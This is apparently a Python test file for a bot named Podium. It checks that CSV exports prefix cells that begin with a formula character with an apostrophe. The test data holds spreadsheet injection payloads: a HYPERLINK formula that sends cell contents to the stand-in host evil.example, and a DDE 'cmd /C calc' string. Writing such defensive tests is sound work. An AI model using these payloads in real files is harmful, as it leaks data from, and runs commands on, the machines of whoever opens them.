"""Spreadsheet formula injection: text a member typed (a question, their name) that a spreadsheet
would run as a formula when the CSV is opened (=HYPERLINK(...), +cmd|..., @SUM(...), a leading tab
or carriage return). Every CSV Podium writes (``podium export``, a rehearsal's questions.csv and
refused.csv) starts such a cell with an apostrophe, which spreadsheets show as text.
"""

import csv
import io

from bot.domain.actors import Actor
from bot.services.qa.questions import submit_question
from tests.cli.test_rehearse_command import EXAMPLES, podium
from tests.factories import GUILD_ID, make_event
from tests.factories import host as a_host

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1, "Who pays?")',
    "+cmd|' /C calc'!A0 and who pays?",
    "-2+3 who pays?",
    "@SUM(1+1) who pays?",
]
NAMES = ["=1+1 Sam", "+Sam", "-Sam", "@Sam"]


def cells(text: str, column: str) -> list[str]:
    return [row[column] for row in csv.DictReader(io.StringIO(text))]


def inert(cell: str) -> bool:
    return not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


async def test_podium_export_writes_formulas_in_questions_and_names_as_text(db, tmp_path):
    event = await make_event(db, a_host())
    for n, (text, name) in enumerate(zip(FORMULAS, NAMES, strict=True)):
        asker = Actor(user_id=800_000_000_000_000_100 + n, display_name=name, guild_id=GUILD_ID)
        await submit_question(db, event.id, asker, text)
    url = db.url.render_as_string(hide_password=False)
    result = podium("export", str(event.id), "--format", "csv", "--url", url, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    texts, authors = cells(result.stdout, "text"), cells(result.stdout, "author")
    assert all(map(inert, texts + authors)), (texts, authors)
    # The words are all still there, after the apostrophe.
    assert sorted(t.removeprefix("'") for t in texts) == sorted(FORMULAS)
    assert sorted(a.removeprefix("'") for a in authors) == sorted(NAMES)


def test_a_rehearsals_csv_files_write_formulas_as_text(tmp_path):
    script = tmp_path / "script.jsonl"
    script.write_text(
        '{"t": 0, "action": "ask", "user": "u1", "text": "=HYPERLINK(\\"http://evil.example\\", \\"Who pays?\\")"}\n'
    )
    result = podium("rehearse", script, "--report", EXAMPLES / "report.md", "--out", tmp_path / "out")
    assert result.returncode == 0, result.stderr
    [text] = cells((tmp_path / "out" / "questions.csv").read_text(encoding="utf-8"), "text")
    assert text == '\'=HYPERLINK("http://evil.example", "Who pays?")'
